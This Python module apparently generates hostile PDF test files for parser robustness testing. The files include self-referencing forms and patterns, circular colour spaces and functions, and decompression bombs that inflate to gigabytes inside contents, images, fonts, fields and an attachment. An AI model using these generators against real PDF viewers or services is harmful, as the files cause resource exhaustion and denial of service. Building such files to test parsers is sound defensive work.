"""Content that shows itself or multiplies, and data that inflate to gigabytes."""

from __future__ import annotations

import struct
import zlib

from evil_files.raw import GIGABYTE, MEGABYTE, Paper, bomb, evil, heavy, stream, written

FORM = "/Type /XObject /Subtype /Form /BBox [0 0 612 792]"
FLATE = "/Filter /FlateDecode"
FLATE_TWICE = "/Filter [/FlateDecode /FlateDecode]"
IMAGE = "/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8"
PLACED = b"q 400 0 0 400 99 99 cm /X Do Q"


@evil
def form_shows_itself() -> bytes:
    paper = Paper(b"/X Do", resources="/XObject << /X 5 0 R >>")
    paper.stream(f"{FORM} /Resources << /XObject << /X 5 0 R >> >>", b"/X Do 9 9 99 99 re f")
    return paper.bytes()


@heavy
def two_forms_show_each_other() -> bytes:
    paper = Paper(b"/X Do", resources="/XObject << /X 5 0 R /Y 6 0 R >>")
    paper.stream(f"{FORM} /Resources << /XObject << /X 6 0 R >> >>", b"/X Do /X Do")
    paper.stream(f"{FORM} /Resources << /XObject << /X 5 0 R >> >>", b"/X Do /X Do")
    return paper.bytes()


def _fan(levels: int, *, own_resources: bool) -> bytes:
    """Each form shows the next one ten times."""
    paper = Paper(b"/X5 Do")
    names = " ".join(f"/X{n} {n} 0 R" for n in range(5, 5 + levels))
    paper.resources = f"/XObject << {names} >>"
    for level in range(5, 5 + levels):
        resources = f"/Resources << /XObject << /X{level + 1} {level + 1} 0 R >> >>" if own_resources else ""
        last = level == 4 + levels
        paper.stream(f"{FORM} {resources}", b"9 9 9 9 re f " if last else b"/X%d Do " % (level + 1) * 10)
    return paper.bytes()


@heavy
def ten_forms_each_ten_times() -> bytes:
    return _fan(10, own_resources=True)


@heavy
def ten_forms_each_ten_times_without_resources() -> bytes:
    return _fan(10, own_resources=False)


@evil
def pattern_paints_itself() -> bytes:
    paper = Paper(b"/Pattern cs /P scn 0 0 612 792 re f", resources="/Pattern << /P 5 0 R >>")
    tiling = "/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 5 5] /XStep 5 /YStep 5"
    paper.stream(f"{tiling} /Resources << /Pattern << /P 5 0 R >> >>", b"/Pattern cs /P scn 0 0 5 5 re f")
    return paper.bytes()


@heavy
def pattern_in_tiny_steps() -> bytes:
    paper = Paper(b"/Pattern cs /P scn 0 0 612 792 re f", resources="/Pattern << /P 5 0 R >>")
    tiling = "/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 5 5] /XStep 0.0001 /YStep 0.0001 /Resources << >>"
    paper.stream(tiling, b"0 0 2 2 re f")
    return paper.bytes()


@evil
def soft_mask_shows_itself() -> bytes:
    paper = Paper(b"/G gs 9 9 99 99 re f", resources="/ExtGState << /G 5 0 R >>")
    paper.add("<< /SMask << /S /Luminosity /G 6 0 R >> >>")
    group = "/Group << /S /Transparency /CS /DeviceRGB >> /Resources << /ExtGState << /G 5 0 R >> >>"
    paper.stream(f"{FORM} {group}", b"/G gs 9 9 99 99 re f")
    return paper.bytes()


@evil
def dashes_without_number() -> bytes:
    return Paper(b"[0.00001] 0 d 9 w 0 0 m " + b"99999999 99999999 l 0 0 l " * 50 + b"S").bytes()


@heavy
def lines_without_number() -> bytes:
    return Paper(b"0 0 m " + b"600 700 l 3 5 l 590 9 99 700 9 9 c " * 20_000 + b"B*").bytes()


@evil
def groups_in_groups() -> bytes:
    paper = Paper(b"/X5 Do", resources="/XObject << /X5 5 0 R >>")
    for level in range(5, 305):
        inner = f"/Resources << /XObject << /X{level + 1} {level + 1} 0 R >> /ExtGState << /G << /ca 0.5 >> >> >>"
        paper.stream(f"{FORM} /Group << /S /Transparency >> {inner}", b"/G gs /X%d Do 0 0 9 9 re f" % (level + 1))
    return paper.bytes()


@heavy
def calculator_function_that_works_hard() -> bytes:
    paper = Paper(b"/S sh", resources="/Shading << /S 5 0 R >>")
    paper.add("<< /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 612 0 792] /Function 6 0 R >>")
    work = "{ " + "dup exp sin cos atan sqrt " * 20_000 + "pop pop 0 0 0 }"
    paper.stream("/FunctionType 4 /Domain [0 612 0 792] /Range [0 1 0 1 0 1]", work.encode())
    return paper.bytes()


@evil
def functions_in_a_circle() -> bytes:
    paper = Paper(b"/S sh", resources="/Shading << /S 5 0 R >>")
    paper.add("<< /ShadingType 2 /ColorSpace [/Separation /A 7 0 R 6 0 R] /Coords [0 0 9 9] /Function 6 0 R >>")
    paper.add("<< /FunctionType 3 /Domain [0 1] /Functions [6 0 R 6 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>")
    paper.add("[/Separation /A 7 0 R 6 0 R]")
    return paper.bytes()


@evil
def colour_spaces_in_a_circle() -> bytes:
    paper = Paper(b"/C cs 1 scn 9 9 99 99 re f", resources="/ColorSpace << /C 5 0 R >>")
    paper.add("[/Indexed 6 0 R 255 (x)]")
    paper.add("[/Pattern 5 0 R]")
    return paper.bytes()


@heavy
def content_of_one_gigabyte() -> bytes:
    paper = Paper()
    paper.contents = f"{paper.stream(FLATE, bomb(GIGABYTE - MEGABYTE, 0x20))} 0 R"
    return paper.bytes()


@heavy
def content_of_eight_gigabytes() -> bytes:
    paper = Paper()
    paper.contents = f"{paper.stream(FLATE_TWICE, bomb(8 * GIGABYTE, 0x20, layers=2))} 0 R"
    return paper.bytes()


@heavy
def content_of_two_gigabytes_of_operators() -> bytes:
    """Inflates to strokes and graphics states, not to blanks."""
    line = zlib.compress(zlib.compress(b"q 0 0 m 9 9 l S Q\n" * 1_000_000, 9), 9)
    paper = Paper()
    places = [paper.stream(FLATE_TWICE, line) for _ in range(100)]
    paper.contents = f"[{' '.join(f'{n} 0 R' for n in places)}]"
    return paper.bytes()


@heavy
def string_of_four_gigabytes() -> bytes:
    paper = Paper()
    data = bomb(4 * GIGABYTE, 0x41, layers=2, around=(b"BT (", b") Tj ET"))
    paper.contents = f"{paper.stream(FLATE_TWICE, data)} 0 R"
    return paper.bytes()


@evil
def ten_thousand_filters() -> bytes:
    paper = Paper()
    paper.contents = f"{paper.stream('/Filter [' + '/FlateDecode ' * 10_000 + ']', zlib.compress(b'q'))} 0 R"
    return paper.bytes()


@evil
def filters_that_multiply() -> bytes:
    """RunLength in LZW in Flate in hexadecimal."""
    run = b"\x81\x20" * 500_000 + b"\x80"
    data = zlib.compress(zlib.compress(run, 9), 9).hex().encode() + b">"
    filters = "/Filter [/ASCIIHexDecode /FlateDecode /FlateDecode /RunLengthDecode]"
    paper = Paper()
    paper.contents = f"{paper.stream(filters, data)} 0 R"
    return paper.bytes()


@evil
def predictor_with_huge_rows() -> bytes:
    paper = Paper()
    lies = "/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>"
    paper.contents = f"{paper.stream(f'{FLATE} {lies}', zlib.compress(b'q Q'))} 0 R"
    return paper.bytes()


@evil
def image_of_eight_gigabytes() -> bytes:
    paper = Paper(PLACED, resources="/XObject << /X 5 0 R >>")
    paper.stream(f"{IMAGE} /Width 90000 /Height 90000 {FLATE_TWICE}", bomb(8 * GIGABYTE, layers=2))
    return paper.bytes()


@evil
def small_image_of_eight_gigabytes() -> bytes:
    paper = Paper(PLACED, resources="/XObject << /X 5 0 R >>")
    paper.stream(f"{IMAGE} /Width 10 /Height 10 {FLATE_TWICE}", bomb(8 * GIGABYTE, layers=2))
    return paper.bytes()


@heavy
def font_metadata_and_profile_of_gigabytes() -> bytes:
    paper = Paper(b"/C cs 1 0 0 scn BT /F 12 Tf 99 99 Td (Title) Tj ET")
    big = paper.stream(f"{FLATE_TWICE} /Length1 4294967295 /N 3", bomb(4 * GIGABYTE, layers=2))
    told = f"/Type /FontDescriptor /FontName /Big /Flags 32 /FontFile2 {big} 0 R"
    font = f"<< /Type /Font /Subtype /TrueType /BaseFont /Big /FontDescriptor << {told} >> /ToUnicode {big} 0 R >>"
    paper.resources = f"/Font << /F {font} >> /ColorSpace << /C [/ICCBased {big} 0 R] >>"
    paper.root = f"/Metadata {big} 0 R"
    paper.page = f"/Thumb {big} 0 R"
    return paper.bytes()


@heavy
def field_value_of_eight_gigabytes() -> bytes:
    paper = Paper(page="/Annots [6 0 R]", root="/AcroForm << /Fields [6 0 R] >>")
    paper.stream(FLATE_TWICE, bomb(8 * GIGABYTE, 0x41, layers=2))
    paper.add("<< /Subtype /Widget /FT /Tx /T (essay) /V 5 0 R /RV 5 0 R /Rect [9 9 99 99] /DA 5 0 R >>")
    return paper.bytes()


@evil
def attachment_and_script_of_eight_gigabytes() -> bytes:
    paper = Paper(
        root="/OpenAction << /S /JavaScript /JS 5 0 R >> /Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"
    )
    paper.stream(FLATE_TWICE, bomb(8 * GIGABYTE, 0x41, layers=2))
    paper.add("<< /Type /Filespec /F (a) /EF << /F 5 0 R >> >>")
    return paper.bytes()


@heavy
def object_stream_of_eight_gigabytes() -> bytes:
    """The catalogue itself lies in it."""
    paper = Paper()
    head = b"1 0 "
    data = bomb(8 * GIGABYTE, 0x20, layers=2, around=(head + b"<< /Type /Catalog /Pages 2 0 R >>", b""))
    return _with_objects_in(paper, stream(f"/Type /ObjStm /N 1 /First {len(head)} {FLATE_TWICE}", data))


@evil
def object_stream_that_claims_a_billion_objects() -> bytes:
    body = b"1 0 << /Type /Catalog /Pages 2 0 R >>"
    return _with_objects_in(Paper(), stream("/Type /ObjStm /N 1000000000 /First 4", body))


@evil
def object_stream_in_itself() -> bytes:
    return _with_objects_in(
        Paper(), stream("/Type /ObjStm /N 1 /First 4 /Extends 5 0 R", b"5 0 << >>"), holder_inside=True
    )


def _with_objects_in(paper: Paper, holder: bytes, *, holder_inside: bool = False) -> bytes:
    """A file with a table in a stream; object 1 lies in the object stream 5."""
    paper.objects[5] = holder
    whole = written({n: b for n, b in _objects(paper).items() if n != 1}, "")
    whole = whole[: whole.rindex(b"xref\n0 ")]
    places = [whole.find(b"%d 0 obj" % n) for n in range(6)]
    rows = [struct.pack(">BIH", 1, max(0, places[n]), 0) for n in range(6)]
    rows[0], rows[1] = struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 2, 5, 0)
    if holder_inside:
        rows[5] = struct.pack(">BIH", 2, 5, 0)
    rows.append(struct.pack(">BIH", 1, len(whole), 0))
    table = stream("/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R", b"".join(rows))
    return whole + b"6 0 obj\n" + table + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(whole)


def _objects(paper: Paper) -> dict[int, bytes]:
    page = f"<< /Type /Page /Parent 2 0 R {paper.media} >>".encode()
    return {2: f"<< {paper.pages} >>".encode(), 3: page, 4: stream("", b"")} | paper.objects
